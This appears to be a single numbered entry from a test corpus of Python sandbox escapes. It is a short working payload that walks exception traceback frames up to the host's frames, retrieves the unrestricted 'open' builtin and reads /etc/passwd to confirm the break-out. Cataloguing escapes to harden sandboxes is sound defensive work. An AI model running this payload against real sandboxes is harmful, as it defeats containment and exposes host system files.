# escape: 076
# technique: exception traceback -> tb_frame -> f_back chain up to the host's frames
# family: frame
# goal: frame
# first-seen: tav safelite; pysandbox; HackTricks
try: 1 / 0
except Exception as e: f = e.__traceback__.tb_frame
while f.f_back: f = f.f_back
if f.f_builtins['open']('/etc/passwd').readline().startswith('root:'): print('ESCAPED:' + f.f_code.co_filename)
